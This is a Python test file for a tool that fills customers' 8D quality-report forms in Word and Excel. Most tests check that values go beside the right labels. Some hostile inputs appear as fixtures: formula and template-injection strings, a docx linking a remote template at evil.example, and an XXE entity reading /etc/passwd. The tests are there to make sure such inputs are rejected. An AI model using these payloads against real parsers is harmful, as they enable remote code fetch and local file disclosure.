"""A customer's own 8D form comes back with our facts where his labels name them, and nothing else changes."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook

from mailflow.adapters.attachments.forms import TheirForms
from mailflow.domain.model import Attachment
from mailflow.domain.their_form_ports import Fact, FilledForm
from mailflow.office.report_terms import load_report_terms
from mailflow.settings import shipped

VALUES = {
    "record_no": "JL-8.5-02-2026-0001", "customer_ref": "CC-4711", "product": "球阀 DN50", "batch_no": "B2603-01",
    "team": "质量秦朗、技术邓宁", "facts_found": "五件漏水",
    "containment": "=HYPERLINK(1) 库存封存\n客户处隔离 {{ 7*7 }}",
    "cause_occur": "密封圈漏装", "action": "全检", "action_owner": "施磊", "preventive": "", "action_due": "2026-03-20",
}  # fmt: skip


def facts() -> list[Fact]:
    terms, problems = load_report_terms(shipped.folder("rules") / "reports.yaml")
    assert terms is not None, problems
    return [Fact(name, labels, VALUES.get(name, "")) for name, labels in terms.labels.items()]


def word(rows: list[list[str]]) -> bytes:
    document = Document()
    document.add_heading("8D Report 8D报告", 0)
    table = document.add_table(len(rows), max(map(len, rows)))
    table.style = "Table Grid"
    for line, row in zip(table.rows, rows, strict=True):
        for cell, text in zip(line.cells, row, strict=False):
            cell.text = text
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


ROWS = [
    ["报告编号 / Report No.", "", "客诉单号：", ""],
    ["产品名称", "", "批号", "____"],
    ["D1 小组成员", "", "审核人", ""],
    ["D2 问题描述", "", "", ""],
    ["D3 临时措施 Containment Action", "", "", ""],
    ["D4 根本原因", "", "责任人", ""],
    ["D5 永久措施", "", "责任人", ""],
    ["D7 预防措施", "", "完成日期", "2026-01-01"],
]


def filled(name: str, content: bytes) -> FilledForm | None:
    forms = TheirForms()
    try:
        return forms(Attachment(name, name, "application/octet-stream", content), facts())
    finally:
        forms.close()


def cells(content: bytes) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for row in Document(io.BytesIO(content)).tables[0].rows]


def test_facts_stand_beside_their_labels_and_what_is_unknown_or_doubtful_stays_empty() -> None:
    made = filled("8D.docx", word(ROWS))
    assert made is not None
    table = cells(made.content)
    assert [row[1] for row in table[:4]] == ["JL-8.5-02-2026-0001", "球阀 DN50", "质量秦朗、技术邓宁", "五件漏水"]
    assert [row[3] for row in table[:3]] == ["CC-4711", "B2603-01", ""]
    assert table[4][1].split("\n") == VALUES["containment"].split("\n")  # as it is: no template, no formula
    assert (table[5][1], table[6][1]) == ("密封圈漏装", "全检")
    assert (table[5][3], table[6][3]) == ("", "")  # 责任人 stands twice: whose it is, a person says
    assert table[7] == ["D7 预防措施", "", "完成日期", "2026-01-01"]  # not known; written by himself
    assert set(made.left) >= {"审核人", "责任人", "D7 预防措施"}
    assert not {"D4 根本原因", "完成日期", "____"} & set(made.left)


def test_a_workbook_keeps_its_formulas_and_gets_text_alone() -> None:
    book = Workbook()
    page = book.active
    for row in ROWS:
        page.append([text if text != "____" else None for text in row])
    page["F1"], page["G1"] = "=1+1", "数量"
    page.merge_cells("B4:D4")
    page.column_dimensions["B"].width = 33
    stream = io.BytesIO()
    book.save(stream)
    made = filled("8D.xlsx", stream.getvalue())
    assert made is not None
    back = load_workbook(io.BytesIO(made.content)).active
    assert (back["B1"].value, back["D1"].value, back["B4"].value) == ("JL-8.5-02-2026-0001", "CC-4711", "五件漏水")
    assert back["B5"].value == VALUES["containment"]
    assert back["B5"].data_type != "f"
    assert (back["F1"].value, back["F1"].data_type) == ("=1+1", "f")
    assert back["D6"].value is None
    assert back.column_dimensions["B"].width == 33
    assert "责任人" in made.left


def outside(content: bytes) -> bytes:
    """The same, with a template of somewhere else that Word would fetch."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "word/_rels/document.xml.rels":
                link = b'<Relationship Id="x" TargetMode="External" Target="https://evil.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
                data = data.replace(b"</Relationships>", link)
            new.writestr(name, data)
    return stream.getvalue()


@pytest.mark.parametrize(
    "make",
    [
        lambda: outside(word(ROWS)),
        lambda: b"PK\x03\x04 broken",
        lambda: b"",
        lambda: word(ROWS)[:2000],
    ],
)
def test_what_fetches_from_outside_or_is_broken_is_not_filled(make: Callable[[], bytes]) -> None:
    assert filled("8D.docx", make()) is None


def test_entities_of_a_stranger_are_not_resolved() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word(ROWS))) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "word/document.xml":
                data = data.replace(b"?>", b'?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)
                data = data.replace("审核人".encode(), b"&x;")
            new.writestr(name, data)
    made = filled("8D.docx", stream.getvalue())
    assert made is None or b"root:" not in made.content
